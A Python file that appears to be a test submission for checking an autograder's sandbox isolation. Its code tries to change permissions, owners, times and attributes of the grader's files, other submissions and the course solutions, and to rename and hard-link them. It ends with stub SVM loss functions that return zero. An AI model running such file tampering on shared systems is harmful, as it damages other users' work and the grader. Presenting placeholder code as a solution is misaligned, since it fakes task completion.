"""id: E42
category: exfiltration
attempts: Changes what it may not open: modes, owners, times, lengths and attributes of files and folders of the grader and of other submissions, by their names.
BOUND: the folders above its own, 7 changes each
safe grader must show: no other submission affected; grader survives; ended within the limits; no process, file or mount left behind
"""
import os
_here = os.path.dirname(os.path.abspath(__file__)); _all = []
while len(_here) > 1:
    _all += [_here, *(os.path.join(_here, n) for n in ("handed-in", "handed-in/a_first.py", "course", "course/solutions/svm/linear_svm.py", "seats"))]; _here = os.path.dirname(_here)
_all += ["/tmp", "/dev/shm", os.path.expanduser("~")]
_changes = {"chmod": lambda p: os.chmod(p, os.stat(p).st_mode & 0o7777), "chown": lambda p: os.chown(p, -1, -1), "utime": lambda p: os.utime(p), "truncate": lambda p: os.truncate(p, os.stat(p).st_size),
            "setxattr": lambda p: os.setxattr(p, "user.attack", b"1"), "rename": lambda p: os.rename(p, p + "_attack_e42"), "link": lambda p: os.link(p, p + "_attack_e42")}
for _p in _all:
    for _n, _change in _changes.items():
        try: _change(_p); print("changed" if _p.startswith(("/tmp", "/g")) and not os.path.exists("/proc") else "BREACH changed", _n, _p)
        except OSError as e: print("no", _n, _p, e)

import numpy as np
def svm_loss_vectorized(W, X, y, reg):
    return 0.0, np.zeros_like(W)
def softmax_loss_vectorized(W, X, y, reg):
    return svm_loss_vectorized(W, X, y, reg)
